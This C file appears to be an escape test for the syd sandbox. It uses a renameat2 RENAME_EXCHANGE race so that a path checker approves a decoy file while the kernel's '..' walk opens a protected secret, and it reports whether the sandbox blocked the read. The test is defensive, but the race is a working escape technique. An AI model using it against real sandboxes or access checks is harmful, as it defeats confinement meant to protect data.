/* SPDX-License-Identifier: GPL-3.0-or-later */
/*
 * Attack: ".." taken after a directory moved. work/d and DIR/d each hold a
 * chain of DEPTH subdirectories; we hold an fd on the deepest directory of
 * the one that starts at work/d, and open "../" DEPTH+1 times and "secret"
 * relative to it. By the fd's path when the open begins that names
 * work/secret (a decoy); but the kernel takes each ".." from wherever the
 * directory is at that moment. One thread keeps exchanging work/d and DIR/d
 * (renameat2 RENAME_EXCHANGE: both always exist), so our chain is under
 * DIR half the time. A checker that decides on the fd's path as it read it
 * and then lets the kernel walk the ".." allows work/secret and opens
 * DIR/secret. Without syd the secret is read about every other open.
 * Escape: any read of TOPSECRET during ESC_RACE_MS milliseconds.
 */
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>
#include <sys/syscall.h>

#include "esc.h"

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif
#define DEPTH 8

static struct esc e;
static atomic_bool stop;
static atomic_long moves;
static char in_work[PATH_MAX], in_dir[PATH_MAX];

static void *mover(void *arg)
{
	(void)arg;
	while (!atomic_load(&stop))
		if (syscall(SYS_renameat2, AT_FDCWD, in_work, AT_FDCWD, in_dir,
			    RENAME_EXCHANGE) == 0)
			atomic_fetch_add(&moves, 1);
	return NULL;
}

int main(int argc, char **argv)
{
	char path[PATH_MAX], up[PATH_MAX], decoy[PATH_MAX];
	long opens = 0, decoys = 0, failed = 0;
	long long end;
	pthread_t t;
	size_t n = 0;
	int fd, dfd = -1;

	esc_init(&e, argc, argv);
	esc_path(&e, in_work, e.work, "/d");
	esc_path(&e, in_dir, e.dir, "/d");
	esc_path(&e, decoy, e.work, "/secret");
	fd = open(decoy, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, "decoy\n", 6) != 6)
		esc_exit(&e, ESC_SETUP, "decoy: %s", strerror(errno));
	close(fd);
	for (int k = 0; k < 2; k++) {
		size_t len;

		esc_path(&e, path, k ? in_dir : in_work, "");
		len = strlen(path);
		for (int i = 0; i <= DEPTH; i++) {
			if (i > 0)
				len += (size_t)snprintf(
					path + len, sizeof(path) - len, "/s");
			if (mkdir(path, 0755) < 0)
				esc_exit(&e, ESC_SETUP, "mkdir %s: %s", path,
					 strerror(errno));
		}
		if (k == 0)
			dfd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
	}
	if (dfd < 0)
		esc_exit(&e, ESC_SETUP, "open the chain: %s", strerror(errno));
	for (int i = 0; i <= DEPTH; i++)
		n += (size_t)snprintf(up + n, sizeof(up) - n, "../");
	snprintf(up + n, sizeof(up) - n, "secret");
	/* The path must work while the chain stays put: it reads the decoy. */
	fd = openat(dfd, up, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		esc_exit(&e, ESC_SETUP, "openat %s: %s", up, strerror(errno));
	close(fd);
	if (pthread_create(&t, NULL, mover, NULL) != 0)
		esc_exit(&e, ESC_SETUP, "pthread_create failed");
	end = esc_now_ms() + esc_race_ms();
	while (esc_now_ms() < end) {
		fd = openat(dfd, up, O_RDONLY | O_CLOEXEC);
		opens++;
		if (fd < 0) {
			failed++;
			continue;
		}
		if (esc_check_close(fd)) {
			atomic_store(&stop, true);
			pthread_join(t, NULL);
			esc_exit(&e, ESC_ESCAPED,
				 "read TOPSECRET through a moved '..' after "
				 "%ld opens",
				 opens);
		}
		decoys++;
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	if (atomic_load(&moves) == 0)
		esc_exit(&e, ESC_SETUP, "the directories were never exchanged");
	esc_exit(&e, ESC_BLOCKED,
		 "%ld opens (%ld of the decoy, %ld refused), %ld exchanges",
		 opens, decoys, failed, atomic_load(&moves));
}
